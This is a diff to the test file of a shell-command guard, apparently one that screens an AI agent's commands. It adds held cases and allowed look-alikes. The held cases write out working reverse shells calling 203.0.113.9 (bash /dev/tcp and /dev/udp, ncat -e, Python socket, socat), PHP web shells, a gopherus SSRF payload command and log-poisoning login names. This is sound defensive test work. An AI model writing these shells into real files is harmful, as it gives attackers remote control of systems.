@@ -7,6 +7,7 @@ got past the guards. The commands here are variants written for the tests, not t
   is uploaded or an exploit is built (reading one is not judged);
 - nmap told to slip past a firewall or an intrusion detector (fragments, decoys, a spoofed source port,
   idle and bounce scans, paranoid or sneaky timing), whatever it scans;
+- gopherus (gopher:// payloads for a server-side request) by name, as the other payload generators;
 - nmap's interactive mode, gone since 2010: only typed now as the shell escape of a setuid nmap;
 - code as a login name (``ssh '<?php …?>'@host``): written to the server's authentication log for a file
   inclusion to run (log poisoning);
@@ -18,6 +19,9 @@ got past the guards. The commands here are variants written for the tests, not t
   judged and asked (``manage.py shell -c CODE`` is Python, and stays allowed);
 - (from session 17's list) a file named relative to another account's home a ``cd`` in the line moved
   to (``cd /root && cat root.txt``): read from there as if named from the root;
+- after every merge of the session: a reverse or bind shell written into a file by ``echo``, ``printf``,
+  ``cat`` or ``tee``, wherever the file is (shell text, a PHP ``system('…')`` string, Python socket code,
+  ``\n`` read as dash's echo reads it), and server code that runs what a request sends (a web shell);
 - (wrongly held) ``find / -name '*-*'``: a name test of wildcards and punctuation picks every file, not a
   kind of secret.
 """
@@ -41,6 +45,9 @@ HELD = {
         "nmap -Pn -sI zombie.example.com 192.0.2.10",
         "nmap -T sneaky -p 22,80 192.0.2.10",
     ],
+    "SSRF payload generator": [
+        "gopherus --exploit redis",
+    ],
     "nmap interactive mode": [
         "nmap --interactive",
         "sudo /usr/bin/nmap --interactive",
@@ -63,6 +70,15 @@ HELD = {
         "cd /home/alice && head -n 5 .bash_history notes.txt",
         "cd /var/mail && cat bob",
     ],
+    "remote shell written into a file": [
+        "echo 'sh -i >& /dev/udp/203.0.113.9/53 0>&1' >> /opt/tools/cleanup",
+        "printf 'ncat 203.0.113.9 443 -e /bin/bash\\n' > run.sh",
+        "echo \"<?php exec('/bin/bash -c \\\"bash -i >& /dev/tcp/203.0.113.9/80 0>&1\\\"'); ?>\" > up.php",
+        "cat > r.py <<'EOF'\nimport socket,subprocess\ns=socket.socket();s.connect(('203.0.113.9',9001))\n"
+        "subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\nEOF",
+        "tee -a hook.sh <<< 'socat exec:\"bash -li\",pty,stderr tcp:203.0.113.9:4444'",
+        "echo '<?php passthru($_REQUEST[\"c\"]); ?>' > uploads/img.php",
+    ],
     "code as a login name": [
         "ssh -l '<?php passthru($_REQUEST[\"x\"]); ?>' 192.0.2.10",
         "sshpass -p x ssh '<?=`$_GET[1]`?>'@192.0.2.10",
@@ -84,6 +100,10 @@ ALLOWED = [
     "cd /srv/app && cat config.yml",
     "cd ~/proj && cat notes.txt",
     "cd /tmp && cat build.log",
+    "echo 'nc -z localhost 5432 && echo up' > wait-for-db.sh",
+    "printf '#!/bin/sh\\nexec gunicorn app:app --bind 0.0.0.0:8000\\n' > entrypoint.sh",
+    "cat > client.py <<'EOF'\nimport socket\ns = socket.create_connection(('localhost', 8080))\nEOF",
+    "echo \"<?php echo htmlspecialchars(\\$_GET['q']); ?>\" > search.php",
     "find . -name '*_*' -newer setup.py",
     "python manage.py shell -c 'from app.models import User; print(User.objects.count())'",
     "curl 'https://api.example.com/hooks?callback=https://hooks.example.com/build'",
